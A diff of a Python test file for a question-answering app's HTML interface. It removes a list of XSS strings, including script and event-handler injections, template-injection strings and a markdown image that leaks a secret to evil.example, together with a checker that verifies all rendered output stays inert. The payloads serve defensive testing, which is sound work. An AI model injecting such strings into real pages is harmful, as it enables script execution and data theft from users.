@@ -2,160 +2,27 @@
 
 import re
 from dataclasses import replace
-from datetime import date
-from html.parser import HTMLParser
 
 import pytest
 from fakes import EX, FakeKnowledgeBase, path, quotation
 from hypothesis import given
 from hypothesis import strategies as st
+from inert import check, name_of
 
 from kgqa.types import (
     Answer,
     Conflict,
-    Entity,
     Evidence,
-    Hit,
-    Link,
-    Passage,
-    Path,
     Reason,
-    Step,
-    Term,
-    Triple,
-    Validity,
 )
 from ui.answer_card import answer_card, confidence_words
-from ui.conversation import failed, progress, turns, welcome
 from ui.evidence_card import conflict_card, evidence_card, highlight
-from ui.figures import documents_list, file_report
-from ui.history import Turn
+from ui.figures import documents_list
 from ui.pdf_page import page_of
 from ui.picture import picture
-from ui.sheets import document_sheet, entity_sheet, hits, result_table
+from ui.sheets import document_sheet
 from ui.strings import STRINGS, t
 from ui.tags import Html, el, join, text
-
-NAUGHTY = [
-    "<script>window.pwned=1</script>",
-    "<img src=x onerror=window.pwned=1>",
-    '"><svg onload=window.pwned=1>',
-    "' onmouseover='window.pwned=1",
-    "javascript:window.pwned=1",
-    "data:text/html,<script>1</script>",
-    "![x](http://evil.example/?q=secret)",
-    "${window.pwned=1}{{constructor.constructor('window.pwned=1')()}}",
-    "</mark></blockquote></details><iframe src=//evil.example>",
-    "<style>body{display:none}</style>",
-    "evil\u202excod.exe\x00\x1b[31m",
-    "𝄞\ufeff<b>",
-]
-ALLOWED = frozenset(
-    """a article b blockquote button caption circle code dd defs details div dl dt em footer g h2 h3 h4 header i li line
-    mark marker ol p path pre progress rect section small span strong summary sup svg table tbody td text th thead title
-    tr ul""".split()  # noqa: SIM905
-)
-
-
-class Checker(HTMLParser):
-    """Fails on an element or attribute that could load or run something, and on elements that are not closed."""
-
-    def __init__(self) -> None:
-        super().__init__(convert_charrefs=True)
-        self.open: list[str] = []
-        self.said = ""
-
-    def handle_starttag(self, tag, attrs):
-        assert tag in ALLOWED, tag
-        for name, value in attrs:
-            assert not name.startswith("on") and name not in {"src", "style", "srcset", "action", "formaction"}, name
-            assert name != "href" or value.startswith("#"), value
-        self.open.append(tag)
-
-    def handle_startendtag(self, tag, attrs):
-        self.handle_starttag(tag, attrs)
-        self.open.pop()
-
-    def handle_endtag(self, tag):
-        assert self.open.pop() == tag
-
-    def handle_data(self, data):
-        self.said += data
-
-    def handle_comment(self, data):
-        raise AssertionError("a comment")
-
-
-def check(markup: str) -> str:
-    checker = Checker()
-    checker.feed(markup)
-    checker.close()
-    assert checker.open == []
-    assert not set(re.sub(r'data-[a-z]+="[^"]*"', "", markup)) & set("\x00\x1b\u202e")
-    assert not set(markup) & set("\x00\x1b")
-    return checker.said
-
-
-def name_of(term: Term) -> str:
-    return term.value.rsplit("/", 1)[-1]
-
-
-def hostile(bad: str) -> Answer:
-    """An answer with a hostile text in every place that takes one."""
-    passage = Passage(
-        bad,
-        bad,
-        f"before {bad} after",
-        "en",
-        10,
-        24 + len(bad),
-        bad,
-        bad,
-        3,
-        Validity(date(2020, 1, 1), None, bad, bad),
-    )
-    quoted = Evidence("passage", 0.5, passage, 17, 17 + len(bad), bad)
-    triple = Triple(
-        Term(bad),
-        Term(bad),
-        Term(bad, "literal", bad),
-        (bad,),
-        Validity(),
-        bad,
-        (Triple(Term(bad), Term(bad), Term(bad)),),
-    )
-    walk = Evidence("path", 0.5, path=Path((Step(triple),), 0.1, bad), sparql=bad)
-    links = (Link(0, 2, bad, bad, bad, 0.6, "exact", (bad,)), Link(0, 2, bad, bad + "2", bad, 0.5))
-    return Answer(
-        bad, bad, "entities", 0.8, (bad, bad + "2"), (bad, bad + "2"), True, None, bad, "en", (quoted, walk),
-        (Conflict(bad, quoted, walk, bad, bad),), links, (), {bad: 0.1}, {bad: bad}, bad,
-    )  # fmt: skip
-
-
-@pytest.mark.parametrize("bad", NAUGHTY)
-@pytest.mark.parametrize("language", ["en", "zh"])
-def test_hostile_content_is_inert_everywhere(bad, language):
-    answer = hostile(bad)
-    turn = Turn(bad, bad + "?", bad, answer, "2026-01-01T00:00:00+00:00")
-    check(turns([(0, turn)], lambda name: name_of, language))
-    for reason in Reason:
-        check(answer_card(replace(answer, text=None, kind="none", reason=reason), "t1", name_of, language))
-    check(welcome(bad, [bad], language))
-    check(progress(bad, bad, bad, language))
-    check(failed(bad, bad, language))
-    walk = answer.evidence[1].path
-    sheet = Entity(
-        bad, bad, (bad,), (bad,), bad, ((bad, bad, walk.steps[0].triple),), ((bad, bad, walk.steps[0].triple),), (bad,)
-    )
-    check(entity_sheet(sheet, language))
-    check(hits([Hit(answer.evidence[0].passage, 1.0)], language))
-    check(documents_list([(bad, bad)], "", language))
-    check(file_report([(bad, bad, False)], bad))
-
-    class Table:
-        columns, rows, truncated = (bad,), ((Term(bad),), (Term(bad, "literal"),), (None,)), True
-
-    check(result_table(Table, name_of, language))
 
 
 @given(st.text(max_size=60), st.text(max_size=60), st.text(max_size=60))
@@ -292,7 +159,6 @@ def test_tags_refuse_what_could_run():
 
 
 def test_every_text_has_two_languages_with_the_same_gaps():
-    import re
 
     for key, texts in STRINGS.items():
         assert len(texts) == 2 and all(texts), key
@@ -333,7 +199,6 @@ def test_fake_and_real_facade_agree():
 
 
 def test_a_name_with_turning_characters_is_shown_without_and_reported_with_them():
-    from ui.figures import documents_list
 
     shown = documents_list([("a\u202egnp.txt", "x\u202ey")])
     assert 'data-doc="a\u202egnp.txt"' in shown and shown.count("\u202e") == 1
